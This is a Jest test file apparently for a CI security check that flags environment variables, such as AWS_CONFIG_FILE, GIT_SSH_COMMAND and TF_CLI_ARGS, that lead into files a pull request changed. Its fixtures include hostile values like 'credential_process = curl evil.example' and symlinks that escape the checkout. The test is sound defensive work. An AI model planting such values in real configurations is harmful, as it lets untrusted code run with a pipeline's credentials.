/** Variables that lead a program into files that a pull request may have written. */
import { chmodSync, realpathSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { readableHere } from '../../src/machine/files-here.ts';
import type { Environment, ReadableFiles } from '../../src/model/ports.ts';
import { findLeadingVariables } from '../../src/trust/leading-variables.ts';
import { emptyDirectory } from '../support/empty-directory.ts';
import { describe, expect, test } from '../support/jest.ts';
import { layIn } from '../support/tree.ts';

/** What the default branch has. */
const BASE = {
  'main.tf': 'locals {}\n',
  'live/main.tf': 'locals {}\n',
  'conf/config': '[default]\nregion = eu-central-1\n',
  'conf/credentials': '[default]\n',
  'kube/a.yaml': 'users: []\n',
  'kube/b.yaml': 'users: []\n',
  'prod/main.tf': 'locals {}\n',
  'run/config': '[default]\ncredential_process = scripts/login --once\n',
  'run/other': '[default]\ncredential_process = /bin/sh ./login.sh\n',
  'run/login.sh': 'echo {}\n',
  'run/hooks': '[core]\nhooksPath = ./hooks.d\n',
  'run/quoted': '[default]\ncredential_process = "../my scripts/login" --once\n',
  'run/escaped': '[default]\ncredential_process = ../my\\ scripts/login\n',
  'run/plan.json': '{"command": "..\\/my scripts\\/login"}\n',
  'scripts/login': '#!/bin/sh\n',
  'my scripts/login': '#!/bin/sh\n',
  bytes: '\u{FFFD}',
};

function branchWith(files: Record<string, string>): ReadableFiles {
  const root = emptyDirectory();
  layIn(root, files);
  return {
    names: async (path) => readableHere.names(join(root, path)),
    read: async (path) => readableHere.read(join(root, path)),
  };
}

function makeCheckout(changes: Record<string, string> = {}, name = 'checkout') {
  const around = realpathSync(emptyDirectory());
  const root = join(around, name);
  layIn(root, { ...BASE, ...changes });
  return { around, root };
}

function find(
  variables: Environment,
  root: string,
  more: { environment?: Environment; base?: ReadableFiles } = {},
) {
  return findLeadingVariables(variables, {
    directories: [root],
    root,
    base: branchWith(BASE),
    startedIn: [join(root, 'live')],
    environment: { HOME: '/nowhere' },
    ...more,
  });
}

const CHANGED = {
  'conf/config': '[default]\ncredential_process = curl evil.example\n',
  'my scripts/new': 'curl evil.example\n',
};

describe('a variable that names a changed file of the checkout', () => {
  test.each<[name: string, value: (root: string) => string]>([
    ['AWS_CONFIG_FILE', (root) => join(root, 'conf/config')],
    ['AWS_CONFIG_FILE', (root) => `${root}/live/../conf/./config`],
    ['AWS_CONFIG_FILE', (root) => `/nowhere/../${root}/conf/config`],
    ['AWS_CONFIG_FILE', () => '../conf/config'],
    ['AWS_CONFIG_FILE', () => 'conf/config'],
    ['AWS_CONFIG_FILE', (root) => `${root}/live/../conf/config `],
    ['XDG_CONFIG_HOME', (root) => join(root, 'conf')],
    ['XDG_CONFIG_HOME', () => 'conf'],
    ['XDG_CONFIG_HOME', () => '..'],
    ['AZURE_CONFIG_DIR', () => 'conf'],
    ['AZURE_CONFIG_DIR', (root) => root],
    ['AWS_WHATEVER', () => './../conf'],
    ['KUBECONFIG', (root) => `/nowhere/x:${root}/conf/config`],
    ['KUBE_CONFIG_PATHS', () => '/nowhere/x:../conf/config'],
    ['GIT_SSH_COMMAND', (root) => `ssh -F ${root}/conf/config`],
    ['GIT_SSH_COMMAND', () => "ssh -F '../conf/config'"],
    ['GIT_SSH_COMMAND', () => 'ssh -F../conf/config -i /nowhere'],
    ['GIT_SSH_COMMAND', (root) => `ssh -oUserKnownHostsFile=${root}/conf/config`],
    ['GIT_CONFIG_PARAMETERS', (root) => `'include.path'='${root}/conf/config'`],
    ['GIT_CONFIG_VALUE_0', () => '../conf/config'],
    ['GOOGLE_CREDENTIALS', (root) => JSON.stringify({ source: { file: `${root}/conf/config` } })],
    ['ARM_CLIENT_CERTIFICATE_PATH', (root) => `file://${root}/conf/config`],
    ['ARM_OIDC_TOKEN_FILE_PATH', (root) => `file://${root}/con%66/config`],
    ['TF_VAR_config', (root) => join(root, 'conf/config')],
    ['ANYTHING', () => '$CONF/config'],
    ['ANYTHING', () => '${CONF}/config'],
    ['HOME', (root) => root],
    ['AWS_CONFIG_FILE', (root) => `${root}/conf/config/`],
    ['AWS_CONFIG_FILE', () => '/proc/self/cwd/conf/config'],
    ['GOOGLE_CREDENTIALS', (root) => JSON.stringify({ file: root }).replaceAll('/', '\\/')],
    ['GIT_SSH_COMMAND', (root) => `sh -c 'cd ${root}; ./login'`],
    ['GIT_SSH_COMMAND', () => "sh '../my scripts/new'"],
    ['GIT_SSH_COMMAND', () => 'sh ../my\\ scripts/new'],
    ['TF_CLI_ARGS_init', () => '-plugin-dir=conf'],
    ['TF_CLI_ARGS', () => '-input=false -plugin-dir conf'],
    ['TF_CLI_ARGS_init', () => '-backend-config=../conf/config'],
  ])('is named: %s', async (name, value) => {
    const { root } = makeCheckout(CHANGED);
    const environment = { HOME: '/nowhere', CONF: join(root, 'conf') };
    const [said, ...more] = await find({ [name]: value(root) }, root, { environment });
    expect(more).toEqual([]);
    expect(said).toMatch(
      new RegExp(`^${name} leads to "[^"]+" in the files that are judged, and `),
    );
  });

  test.each(['~/conf/config', '$HOME/conf/config', '${HOME}/conf/config'])(
    'is named by way of the home of the job: %s',
    async (value) => {
      const { root } = makeCheckout(CHANGED);
      const environment = { HOME: root };
      expect(await find({ AWS_CONFIG_FILE: value }, root, { environment })).toEqual([
        'AWS_CONFIG_FILE leads to "conf/config" in the files that are judged, and "conf/config" is not as the default branch has it',
      ]);
      expect(await find({ AWS_CONFIG_FILE: value }, root)).toEqual([]);
    },
  );

  test.each<[string, (around: string, root: string) => string]>([
    [
      'outside that leads in',
      (around, root) => {
        symlinkSync(root, join(around, 'link'));
        return join(around, 'link/conf/config');
      },
    ],
    [
      'to a link that leads in',
      (around, root) => {
        symlinkSync(join(root, 'conf/config'), join(around, 'one'));
        symlinkSync('one', join(around, 'two'));
        return join(around, 'two');
      },
    ],
    [
      'of the checkout that leads out',
      (around, root) => {
        layIn(around, { 'evil/config': '' });
        symlinkSync('../evil', join(root, 'out'));
        return join(root, 'out/config');
      },
    ],
    [
      'that leads nowhere',
      (_, root) => {
        symlinkSync('missing', join(root, 'dangling'));
        return '../dangling';
      },
    ],
  ])('is named by way of a link %s', async (_, lay) => {
    const { around, root } = makeCheckout(CHANGED);
    const value = lay(around, root);
    expect(await find({ AWS_CONFIG_FILE: value }, root)).toHaveLength(1);
  });

  test.each(['my checkout', "it's", 'a,b=c:d', '(x)'])(
    'is named in a command where the checkout is %j',
    async (name) => {
      const { root } = makeCheckout(CHANGED, name);
      const GIT_SSH_COMMAND = `ssh -F "${root}/conf/config" -v`;
      expect(await find({ GIT_SSH_COMMAND }, root)).toHaveLength(1);
    },
  );

  test('is named by way of a link and the directory above it', async () => {
    const { around, root } = makeCheckout({ ...CHANGED, 'deep/er/x': '' });
    symlinkSync(join(root, 'deep/er'), join(around, 'link'));
    layIn(root, { 'deep/conf': 'new' });
    expect(await find({ AWS_CONFIG_FILE: `${around}/link/../conf` }, root)).toHaveLength(1);
  });

  test('is named where the checkout itself is reached by a link', async () => {
    const { around, root } = makeCheckout(CHANGED);
    const link = join(around, 'workspace');
    symlinkSync(root, link);
    expect(await find({ AWS_CONFIG_FILE: join(root, 'conf/config') }, link)).toHaveLength(1);
    expect(await find({ AWS_CONFIG_FILE: join(link, 'conf/config') }, link)).toHaveLength(1);
  });
});

describe('a place of the checkout', () => {
  const SPACED = { 'my scripts/login': 'curl' };
  const said = async (value: string, changes: Record<string, string> = {}) =>
    (await find({ XDG_CONFIG_HOME: value }, makeCheckout(changes).root)).join();

  test.each<[string, string, Record<string, string>?]>([
    ['a file', '../conf/config'],
    ['a directory', '../conf'],
    ['a directory beside changed ones', '../kube', CHANGED],
    ['a file that names an unchanged script', '../run/other'],
  ])('counts where the default branch has the same: %s', async (_, value, changes) => {
    expect(await said(value, changes)).toBe('');
  });

  test.each<[string, string, Record<string, string>, string]>([
    ['is changed', '../conf', CHANGED, '"conf/config"'],
    ['has a further file', '../conf', { 'conf/more': '' }, '"conf/more"'],
    ['has a further directory', '../conf', { 'conf/x/y': '' }, '"conf/x/y"'],
    ['is new', '../new', { 'new/config': '' }, '"new/config"'],
    ['names a changed directory', '../run/hooks', { 'run/hooks.d/x': '' }, '"run/hooks.d/x"'],
    ['names a changed script', '../run/other', { 'run/login.sh': 'curl' }, '"run/login.sh"'],
    ['names one between quotes', '../run/quoted', SPACED, '"my scripts/login"'],
    ['names one with an escaped blank', '../run/escaped', SPACED, '"my scripts/login"'],
    ['names one in JSON', '../run/plan.json', SPACED, '"my scripts/login"'],
    ['is no text', '../bytes', {}, '"bytes"'],
  ])('does not count where it %s', async (_, value, changes, named) => {
    expect(await said(value, changes)).toContain(`and ${named} is not as the default branch has`);
  });

  test('does not count where a file is missing', async () => {
    const { root } = makeCheckout();
    const base = branchWith({ ...BASE, 'conf/gone': '' });
    expect(await find({ XDG_CONFIG_HOME: '../conf' }, root, { base })).toHaveLength(1);
  });

  test('does not count where it is a link to the same text outside', async () => {
    const { around, root } = makeCheckout();
    layIn(around, { config: BASE['kube/a.yaml'] });
    rmSync(join(root, 'kube/a.yaml'));
    symlinkSync('../../config', join(root, 'kube/a.yaml'));
    expect((await find({ KUBECONFIG: '../kube/a.yaml' }, root)).join()).toContain('"kube/a.yaml"');
  });

  test('does not count where nothing is there', async () => {
    const { root } = makeCheckout();
    expect(await find({ AWS_CONFIG_FILE: join(root, 'missing') }, root)).toHaveLength(1);
  });

  test('does not count where the default branch cannot be read', async () => {
    const { root } = makeCheckout();
    const unread = async () => {
      throw new Error('no answer');
    };
    const found = await find({ AWS_CONFIG_FILE: '../conf/config' }, root, {
      base: { names: unread, read: unread },
    });
    expect(found.join()).toContain('cannot be compared with the default branch');
  });

  test.each<[name: string, value: string]>([
    ['AWS_CONFIG_FILE', '../run/config'],
    ['GIT_SSH', '../scripts/login'],
    ['GIT_SSH_COMMAND', '../scripts/login -v'],
    ['XDG_DATA_DIRS', '../scripts'],
  ])('does not count where it is or names a program: %s=%s', async (name, value) => {
    const { root } = makeCheckout();
    chmodSync(join(root, 'scripts/login'), 0o755);
    expect((await find({ [name]: value }, root)).join()).toContain('"scripts/login" is a program');
  });

  test.each<[name: string, value: (root: string) => string]>([
    ['TF_PLUGIN_CACHE_DIR', (root) => join(root, 'kube')],
    ['TF_PLUGIN_CACHE_DIR', (root) => join(root, '.cache')],
    ['TF_PLUGIN_CACHE_DIR', () => '.cache'],
    ['TF_PLUGIN_CACHE_DIR', () => '~/.cache'],
    ['TF_PLUGIN_CACHE_DIR', () => '$HOME/.cache'],
    ['TF_CLI_CONFIG_FILE', (root) => join(root, 'conf/config')],
    ['GIT_EXEC_PATH', () => '../scripts'],
  ])('is nothing from which plugins or programs start: %s', async (name, value) => {
    const { root } = makeCheckout();
    expect((await find({ [name]: value(root) }, root)).join()).toContain(
      'programs would start from there',
    );
  });
});

test('a cache with more files than are searched for links is named', async () => {
  const { around, root } = makeCheckout();
  const cache = join(around, 'cache');
  layIn(cache, { 'a/one': '', 'a/two': '' });
  const within = (mostEntries: number) =>
    findLeadingVariables(
      { TF_PLUGIN_CACHE_DIR: cache },
      {
        directories: [root],
        root,
        base: branchWith(BASE),
        startedIn: [root],
        environment: {},
        mostEntries,
      },
    );
  expect(await within(2)).toEqual([
    `TF_PLUGIN_CACHE_DIR is "${cache}", and it has too many files to look for links into the files that are judged`,
  ]);
  expect(await within(3)).toEqual([]);
});

test('a cache outside counts where no link in it leads into the checkout', async () => {
  const { around, root } = makeCheckout();
  const variables = { TF_PLUGIN_CACHE_DIR: join(around, 'cache') };
  layIn(around, { 'cache/registry.terraform.io/a/b': '' });
  expect(await find(variables, root)).toEqual([]);
  symlinkSync(root, join(around, 'cache/registry.terraform.io/evil'));
  expect((await find(variables, root)).join()).toContain('programs would start from there');
});

test.each<[name: string, value: string]>([
  ['AWS_REGION', 'eu-central-1'],
  ['AWS_PROFILE', 'prod'],
  ['TF_WORKSPACE', 'live'],
  ['TF_VAR_stack', 'live/prod'],
  ['AWS_ROLE_ARN', 'arn:aws:iam::123456789012:role/live/main'],
  ['HTTPS_PROXY', 'http://proxy.example:3128'],
  ['NO_PROXY', 'localhost,127.0.0.1,.example.com'],
  ['AWS_CONFIG_FILE', '/dev/null'],
  ['TF_PLUGIN_CACHE_DIR', '/var/cache/my plugins'],
  ['XDG_CONFIG_HOME', ''],
  ['GIT_SSH_COMMAND', 'ssh -F none'],
  [
    'GOOGLE_CREDENTIALS',
    '{"type": "service_account", "private_key": "-----BEGIN KEY-----\\nMII/+a"}',
  ],
  ['ARM_SKIP_PROVIDER_REGISTRATION', 'true'],
  ['PATH', '/usr/bin:/bin'],
  // Programs take an empty one for none.
  ['TF_PLUGIN_CACHE_DIR', ''],
  ['TF_CLI_CONFIG_FILE', ''],
  ['TF_CLI_ARGS_plan', '-var-file=main.tfvars -input=false'],
  ['TF_CLI_ARGS', '-no-color --var-file ../live/main.tfvars'],
])('%s=%s leads nowhere', async (name, value) => {
  const { root } = makeCheckout({ 'live/prod/main.tf': 'new', 'live/main.tfvars': 'new' });
  expect(await find({ [name]: value }, root)).toEqual([]);
});

test.each([
  ['alone', (path: string) => path],
  ['in a list', (path: string) => `/nowhere:${path}`],
  ['in a command', (path: string) => `ssh -F "${path}"`],
])(
  'a path that goes on to have the path of the checkout in it leads nowhere: %s',
  async (_, of) => {
    const { root } = makeCheckout();
    expect(await find({ KUBECONFIG: of(`/mnt${root}/config`) }, root)).toEqual([]);
    expect(await find({ KUBECONFIG: of(`${root}.tmp/config`) }, root)).toEqual([]);
  },
);
